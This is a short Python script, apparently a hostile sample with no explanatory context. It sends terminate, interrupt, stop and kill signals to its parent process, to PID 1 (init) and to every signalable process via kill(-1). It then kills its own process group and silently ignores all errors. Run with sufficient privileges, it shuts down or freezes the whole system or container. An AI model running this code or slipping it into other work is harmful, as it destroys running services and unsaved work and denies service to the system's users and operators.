import os, signal

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
    for act in (lambda: os.kill(os.getppid(), number) if os.getppid() else None, lambda: os.kill(1, number) if os.getpid() != 1 else None, lambda: os.kill(-1, number)):
        try:
            act()
        except OSError:
            pass
try:
    os.killpg(0, signal.SIGKILL)
except OSError:
    pass
